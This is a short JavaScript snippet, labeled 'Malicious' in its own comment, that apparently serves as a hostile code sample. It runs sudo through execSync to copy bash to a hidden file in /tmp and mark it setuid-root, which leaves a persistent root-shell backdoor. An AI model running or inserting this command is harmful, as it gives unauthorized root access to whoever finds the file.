// Malicious: uses sudo to make a setuid-root copy of bash.
const { execSync } = require('child_process');
execSync('sudo cp /bin/bash /tmp/.b && sudo chmod 4755 /tmp/.b');
